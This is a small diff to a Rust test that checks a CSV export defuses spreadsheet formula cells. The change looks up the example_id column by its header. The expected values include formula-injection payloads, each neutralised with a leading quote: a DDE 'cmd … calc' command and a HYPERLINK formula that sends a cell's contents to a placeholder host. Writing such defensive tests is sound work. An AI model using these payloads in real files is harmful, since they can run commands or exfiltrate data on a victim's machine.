@@ -133,7 +133,8 @@ fn csv_export_neutralises_formula_cells() {
     // a plain number stays a number (the comment "-3", the author id "-7")
     assert_eq!(comments[1..], [["-3", "-7"], ["'=1+1, \"quoted\"\nsecond line", "-7"], ["'@SUM(1)", "-7"]]);
     let examples = fields(&outputs.iter().find(|(n, _)| n == "examples").unwrap().1);
-    let ids: Vec<&str> = examples[1..].iter().map(|r| r[0].as_str()).collect();
+    let id_column = examples[0].iter().position(|c| c == "example_id").expect("examples has an example_id column");
+    let ids: Vec<&str> = examples[1..].iter().map(|r| r[id_column].as_str()).collect();
     assert_eq!(ids, ["'\rcr", "'+cmd|' /C calc'!A0", "'=HYPERLINK(\"http://x.test/?leak=\"&A1,\"open\")"]);
 }
 
